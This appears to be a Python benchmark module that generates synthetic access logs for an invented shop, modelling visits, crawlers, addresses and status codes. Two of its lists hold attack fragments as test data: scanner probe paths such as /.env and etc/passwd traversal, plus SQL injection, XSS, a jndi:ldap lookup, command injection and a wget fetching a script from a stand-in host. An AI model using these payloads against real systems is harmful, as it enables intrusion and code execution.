"""What visitors and crawlers of an invented shop ask for, as lines of the combined format.

Visits are the unit: a visitor comes with one address and one browser, asks for pages and what belongs to them, goes,
and may come back. Crawlers are few and steady. So the share of distinct values is right over the whole log and over
any part of it, which is what caches and dictionaries feel.
Only exact arithmetic is used (no logarithm, no power), so that the bytes do not depend on the machine.
"""

from __future__ import annotations

from dataclasses import dataclass
from datetime import date, timedelta
from functools import cache
from typing import TYPE_CHECKING, TypeAlias

import numpy as np
import pyarrow as pa
import pyarrow.compute as pc

from benchmarks.browsers import COMMON, CRAWLERS, QUOTED, rare
from benchmarks.shapes import COMBINED, JSON, VHOST, Shape

if TYPE_CHECKING:
    from collections.abc import Sequence

Ints: TypeAlias = np.ndarray[tuple[int], np.dtype[np.int64]]
Bools: TypeAlias = np.ndarray[tuple[int], np.dtype[np.bool_]]
Rng: TypeAlias = np.random.Generator
Floats: TypeAlias = np.ndarray[tuple[int], np.dtype[np.float64]]

_NOISE_EVERY = 20_000
"""One line in so many is TLS spoken to a plain port."""
_QUOTED_EVERY = 15_000
"""One line in so many has escaped quotes in its user agent."""
_CRAWLER_ADDRESSES = 400
_ITEMS = 20_000
_MONTHS = ("Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec")
_SITE = "https://www.shop.example"

_WORDS = """
amber anvil apron basin birch bottle brush candle canvas cedar chair clay copper cotton cradle desk drawer felt fern
frame glass hammer hinge ivory jar kettle lamp linen maple mirror mug nail oak olive paint pillow plate quilt rope rug
saw shelf silk spoon stool table tile tray vase wax wicker wool
""".split()  # noqa: SIM905 — one word per line would be a page
_PAGES = (
    "/",
    *(f"/{a}/{b}" for a in _WORDS[:40] for b in _WORDS),
    "/cart",
    "/login",
    "/account/orders",
)
_ASSETS = tuple(
    f"/static/{word}.{number * 2_654_435_761 % 2**32:08x}.{end}"
    for number, word in enumerate(_WORDS)
    for end in ("css", "js", "svg", "woff2")
)
_PROBES = """
/wp-login.php /.env /.git/config /phpmyadmin/index.php /xmlrpc.php /admin/config.php /backup.zip /actuator/env
/index.php?id=1%27%20OR%20%271%27=%271 /static/..%2f..%2f..%2fetc/passwd /solr/admin/info/system /cgi-bin/luci
""".split()  # noqa: SIM905 — one word per line would be a page
_SEARCHES = tuple(f"{a}+{b}" for a in _WORDS for b in _WORDS)

_HOSTILE = """
%27%20UNION%20SELECT%20 ..%2f..%2f %3Cscript%3Ealert(1)%3C/script%3E ${jndi:ldap://x.example/a} %00 %c0%ae%c0%ae/ etc/passwd
cmd=cat+ |id; AND+1=1-- %252e%252e%252f base64,PD9waHA= sleep(10) 0x3c3f706870 {{7*7}} ;wget+http://x.example/b.sh
""".split()  # noqa: SIM905 — one word per line would be a page


@dataclass(frozen=True, slots=True)
class Profile:
    """What kind of traffic a log holds, as shares of its lines unless said otherwise.

    Args:
        addresses: Distinct client addresses.
        agents: Distinct user agents; fewer than addresses.
        ipv6: Share of the *visitors* that come over IPv6.
        crawled: Lines that crawlers cause.
        visit: Lines of a mean visit.
        hostile: Lines whose target is a long attack, no two alike.
        broken_every: One line in so many ends before its last quote.
        shape: The format.
    """

    addresses: float = 0.02
    agents: float = 0.005
    ipv6: float = 0.3
    crawled: float = 0.24
    visit: float = 24.0
    hostile: float = 0.0
    broken_every: int = 50_000
    shape: Shape = COMBINED


PROFILES: dict[str, Profile] = {
    "typical": Profile(),
    "botnet": Profile(addresses=0.5, ipv6=0.7, crawled=0.05, visit=2.0),
    "attack": Profile(hostile=0.4, broken_every=10),
    "json": Profile(shape=JSON),
    "vhost": Profile(shape=VHOST),
}


@dataclass(frozen=True, slots=True)
class _Asked:
    """One kind of target: its share of the lines in 1000, how it is made, the size of its answer."""

    share: float
    prefix: str
    drawn: Sequence[str] | int | None = None
    suffix: str = ""
    size: int = 10_000
    referer: str = "none"


# A target is a prefix, what is drawn (from a list, or a number below a bound, or a UUID), and a suffix.
_TARGETS = (
    _Asked(300, "", _ASSETS, size=40_000, referer="page"),
    _Asked(290, "", _PAGES, size=16_000, referer="entry"),
    _Asked(160, "/item/", _ITEMS, size=14_000, referer="entry"),
    _Asked(100, "/img/item/", _ITEMS, "-320.webp", size=21_000, referer="item"),
    _Asked(30, "/item/", _ITEMS, "/reviews?page=2&sort=new", size=9_000, referer="item"),
    _Asked(55, "/search?q=", _SEARCHES, size=11_000, referer="page"),
    _Asked(20, "/search?q=", _SEARCHES, "&sort=price&page=3", size=11_000, referer="page"),
    _Asked(20, "/api/v2/orders/", None, size=900, referer="page"),
    _Asked(15, "/api/v2/items/", _ITEMS, "/stock?fields=count,store", size=240, referer="item"),
    _Asked(5, "/checkout/", None, "/confirm", size=4_400, referer="page"),
    _Asked(5, "", _PROBES, size=1_245),
)
_PROBING = len(_TARGETS) - 1
_ENTRIES = (
    "https://www.google.com/",
    "https://www.bing.com/",
    "https://duckduckgo.com/",
    "https://m.facebook.com/",
)
_REFERERS = (*_ENTRIES, *(_SITE + page for page in _PAGES), *(f"{_SITE}/search?q={words}" for words in _SEARCHES[:1_500]))  # fmt: skip


def chunk(profile: Profile, number: int, seconds: Ints, *, seed: int, first: date) -> memoryview:
    """Some lines of a log, each ended.

    Args:
        profile: What kind of traffic.
        number: Which chunk of the log this is; all chunks but the last have the same number of lines.
        seconds: When each line was written, in seconds from the start of the log; ascending.
        seed: Another seed gives another log of the same kind.
        first: The first day of the log, UTC.
    """
    lines = len(seconds)
    rng = Rng(np.random.PCG64([seed, number]))
    crawled, clients = _clients(profile, number, lines, rng)
    row = np.arange(lines) + number * lines
    noise = row % _NOISE_EVERY == 777
    asked = _draw(_cumulated(tuple(target.share for target in _TARGETS)), rng.random(lines))
    status = np.where(noise, 400, _status(asked, rng.random(lines)))
    shape = profile.shape
    method, protocol = _methods(asked, crawled, noise, rng.random(lines), shape.escape)
    quoted = row % _QUOTED_EVERY == 4_321
    target: tuple[pa.Array, ...] = _target(asked, rng)
    if profile.hostile:
        target = _attacked(target, rng.random(lines) < profile.hostile, rng)
    parts = [
        _taken(shape.hosts, row % len(shape.hosts)),
        _addresses(clients, crawled, profile.ipv6),
        _taken(shape.users, (row % 997 == 13).astype(np.int64)),
        _stamps(seconds, first),
        shape.between[0],
        method,
        *(pc.if_else(pa.array(noise), "", part) for part in target),
        protocol,
        shape.between[1],
        _digits(status),
        shape.between[2],
        _digits(_sizes(asked, status, rng.random(lines))),
        shape.between[3],
        *_referer(asked, crawled | noise, rng),
        shape.between[4],
        _agents(clients, crawled, profile, quoted),
        _taken(
            (shape.end, shape.cut),
            (row % profile.broken_every == profile.broken_every // 2).astype(np.int64),
        ),
    ]
    joined = pc.binary_join_element_wise(*parts, "")
    return memoryview(joined.buffers()[2])[: pc.sum(pc.binary_length(joined)).as_py()]


def _mix(numbers: Ints) -> np.ndarray[tuple[int], np.dtype[np.uint64]]:
    """64 bits that look random, the same for the same number: the finaliser of SplitMix64."""
    z = (numbers.astype(np.uint64) + np.uint64(1)) * np.uint64(0x9E3779B97F4A7C15)
    z = (z ^ (z >> np.uint64(30))) * np.uint64(0xBF58476D1CE4E5B9)
    z = (z ^ (z >> np.uint64(27))) * np.uint64(0x94D049BB133111EB)
    return z ^ (z >> np.uint64(31))


@cache
def _cumulated(shares: tuple[float, ...]) -> Floats:
    sums = np.cumsum(np.array(shares, np.float64))
    return np.asarray(sums / sums[-1])


@cache
def _zipf(size: int) -> Floats:
    """Cumulative shares of `size` values, the k-th in proportion to 1 / (k + 2)."""
    return _cumulated(tuple(1.0 / (k + 2) for k in range(1, size + 1)))


def _draw(cumulated: Floats, chance: Floats) -> Ints:
    return np.searchsorted(cumulated, chance, side="right").astype(np.int64)


def _taken(texts: Sequence[str], codes: Ints) -> pa.Array:
    return pa.array(texts, pa.string()).take(pa.array(codes))


def _digits(numbers: Ints) -> pa.Array:
    return pc.cast(pa.array(numbers), pa.string())


def _clients(profile: Profile, number: int, lines: int, rng: Rng) -> tuple[Bools, Ints]:
    """Who wrote each line: whether it was a crawler, and its number among crawlers or among visitors."""
    fresh, by_crawlers = round(profile.addresses * lines), int(profile.crawled * lines)
    visited = lines - by_crawlers
    visits = max(fresh, round(visited / profile.visit))
    known = (number + 1) * fresh
    # Who comes back came lately rather than long ago.
    chance = rng.random(visits - fresh)
    back = known - 1 - (known * chance * chance).astype(np.int64)
    visitors = np.concatenate([np.arange(known - fresh, known), back])
    chance = rng.random(visits)
    lengths = 1 + (5 * (visited / visits - 1) * chance * chance * chance * chance).astype(np.int64)
    visit = np.repeat(np.arange(visits), lengths)[:visited]
    more = (rng.random(visited - len(visit)) * visits).astype(np.int64)
    visit = np.concatenate([visit, more])
    # A visit is a few pages apart in time, each with what belongs to it.
    page = np.floor(rng.random(visited) * 6) * (lines / 120)
    begin = rng.random(visits) * lines
    place = (begin[visit] + page + rng.random(visited) * 30) % lines
    crawler = _draw(_zipf(_CRAWLER_ADDRESSES), rng.random(by_crawlers))
    order = np.argsort(np.concatenate([place, rng.random(by_crawlers) * lines]), kind="stable")
    return order >= visited, np.concatenate([visitors[visit], crawler])[order]


def _addresses(clients: Ints, crawled: Bools, ipv6: float) -> pa.Array:
    """Each client has one address; crawlers take theirs from the end of 10.0.0.0/8, where visitors come last."""
    distinct, codes = np.unique(np.where(crawled, -1 - clients, clients), return_inverse=True)
    bits = _mix(distinct).tolist()
    within = _mix(distinct + 2**32).tolist()
    bound = int(ipv6 * 2**16)
    texts = [
        f"2001:db8:{high >> 48:x}:{high >> 32 & 0xFFFF:x}:{low >> 48:x}:{low >> 32 & 0xFFFF:x}:{low >> 16 & 0xFFFF:x}:{low & 0xFFFF:x}"
        if client >= 0 and high & 0xFFFF < bound
        else _dotted(client)
        for client, high, low in zip(distinct.tolist(), bits, within, strict=True)
    ]
    return _taken(texts, codes)


def _dotted(client: int) -> str:
    # An odd factor maps 24 bits onto themselves: distinct clients have distinct addresses, far apart.
    place = client * 10_368_889 % 2**24
    return f"10.{place >> 16}.{place >> 8 & 255}.{place & 255}"


def _stamps(seconds: Ints, first: date) -> pa.Array:
    distinct, codes = np.unique(seconds, return_inverse=True)
    days = [first + timedelta(days=day) for day in range(int(distinct[-1]) // 86_400 + 1)]
    dates = [f"{day.day:02d}/{_MONTHS[day.month - 1]}/{day.year}" for day in days]
    texts = [
        f"{dates[at // 86_400]}:{at // 3_600 % 24:02d}:{at // 60 % 60:02d}:{at % 60:02d} +0000"
        for at in distinct.tolist()
    ]
    return _taken(texts, codes)


def _status(asked: Ints, chance: Floats) -> Ints:
    fetched = np.isin(asked, (0, 3))
    cases = [
        asked == _PROBING,
        *(fetched & (chance < bound) for bound in (0.11, 0.12, 1.0)),
        *(chance < bound for bound in (0.03, 0.06, 0.0605, 0.0608)),
    ]
    return np.select(cases, [404, 304, 206, 200, 301, 404, 500, 403], 200)


def _sizes(asked: Ints, status: Ints, chance: Floats) -> Ints:
    mean = np.array([target.size for target in _TARGETS])[asked]
    fixed = np.zeros(600, np.int64)
    fixed[[301, 400, 403, 404, 500]] = (178, 157, 548, 1_245, 497)
    varied = (mean // 2 + mean * chance * chance * 1.5).astype(np.int64)
    return np.where(np.isin(status, (200, 206)), varied, fixed[status])


def _methods(
    asked: Ints, crawled: Bools, noise: Bools, chance: Floats, escape: str
) -> tuple[pa.Array, pa.Array]:
    """What stands before and after the target."""
    hello = "".join(
        escape + byte for byte in ["16", "03", "01", "02", "00", "01", "00", "01", "FC", "03", "03"]
    )
    posted = np.isin(asked, (7, 9)) & (chance < 0.6)
    method = np.select([noise, posted, crawled & (chance < 0.02)], [3, 1, 2], 0)
    protocol = np.select([noise, chance < 0.02, crawled | (chance < 0.15)], [3, 2, 1], 0)
    return (
        _taken(("GET ", "POST ", "HEAD ", hello), method),
        _taken((" HTTP/2.0", " HTTP/1.1", " HTTP/1.0", ""), protocol),
    )


def _numbers(chance: Floats) -> pa.Array:
    """Numbers of items, the low ones asked for most."""
    return _digits((chance * chance * chance * _ITEMS).astype(np.int64))


def _drawn(target: _Asked, count: int, rng: Rng) -> pa.Array:
    if target.drawn is None:
        text = rng.bytes(16 * count).hex()
        cut = [text[at : at + 32] for at in range(0, len(text), 32)]
        return pa.array(
            [f"{t[:8]}-{t[8:12]}-4{t[13:16]}-a{t[17:20]}-{t[20:]}" for t in cut], pa.string()
        )
    if isinstance(target.drawn, int):
        return _numbers(rng.random(count))
    return _taken(target.drawn, _draw(_zipf(len(target.drawn)), rng.random(count)))


def _target(asked: Ints, rng: Rng) -> tuple[pa.Array, pa.Array, pa.Array]:
    order = np.argsort(asked, kind="stable")
    counts = np.bincount(asked, minlength=len(_TARGETS))
    drawn = [
        _drawn(target, int(count), rng) for target, count in zip(_TARGETS, counts, strict=True)
    ]
    back = np.empty(len(asked), np.int64)
    back[order] = np.arange(len(asked))
    return (
        _taken([target.prefix for target in _TARGETS], asked),
        pa.concat_arrays(drawn).take(pa.array(back)),
        _taken([target.suffix for target in _TARGETS], asked),
    )


def _attacked(target: tuple[pa.Array, ...], hostile: Bools, rng: Rng) -> tuple[pa.Array, ...]:
    """The targets, some of them replaced by one and a half kilobytes of attacks on average."""
    counts = np.where(hostile, rng.integers(20, 180, len(hostile)), 0)
    offsets = np.concatenate([[0], np.cumsum(counts)]).astype(np.int32)
    pieces = _taken(_HOSTILE, rng.integers(0, len(_HOSTILE), int(offsets[-1])))
    text = pc.binary_join(pa.ListArray.from_arrays(pa.array(offsets), pieces), "")
    mask = pa.array(hostile)
    prefix, drawn, suffix = target
    return (
        pc.if_else(mask, "/index.php?id=", prefix),
        pc.if_else(mask, text, drawn),
        pc.if_else(mask, "", suffix),
    )


def _referer(asked: Ints, silent: Bools, rng: Rng) -> tuple[pa.Array, pa.Array]:
    """The referer in two parts, the second the number of an item or nothing."""
    chance, again = rng.random(len(asked)), rng.random(len(asked))
    kind = np.array(
        [("none", "entry", "item", "page").index(target.referer) for target in _TARGETS]
    )[asked]
    none = silent | (kind == 0) | ((kind == 1) & (chance < 0.5))
    entered = ~none & (kind == 1) & (chance < 0.7)
    item = ~none & (kind == 2)
    pages = len(_REFERERS) - len(_ENTRIES)
    entry = 2 + (again * len(_ENTRIES)).astype(np.int64)
    page = 2 + len(_ENTRIES) + _draw(_zipf(pages), again)
    code = np.where(none, 0, np.where(item, 1, np.where(entered, entry, page)))
    numbers = pc.if_else(pa.array(item), _numbers(again), "")
    return _taken(("-", f"{_SITE}/item/", *_REFERERS), code), numbers


def _agents(clients: Ints, crawled: Bools, profile: Profile, quoted: Bools) -> pa.Array:
    """A visitor has one browser: every so many has a rare one, the others share the common ones."""
    every = max(1, round(profile.addresses / profile.agents))
    chance = (_mix(clients + 2**33) >> np.uint64(11)).astype(np.float64) / 2.0**53
    shared = len(CRAWLERS) + _draw(_zipf(len(COMMON)), chance)
    fixed = len(CRAWLERS) + len(COMMON) + 1
    code = np.where(clients % every == 0, fixed + clients // every, shared)
    code = np.where(quoted, fixed - 1, np.where(crawled, clients % len(CRAWLERS), code))
    distinct, codes = np.unique(code, return_inverse=True)
    texts = (*CRAWLERS, *COMMON, QUOTED.replace(r"\x", profile.shape.escape))
    return _taken([texts[n] if n < fixed else rare(n - fixed) for n in distinct.tolist()], codes)
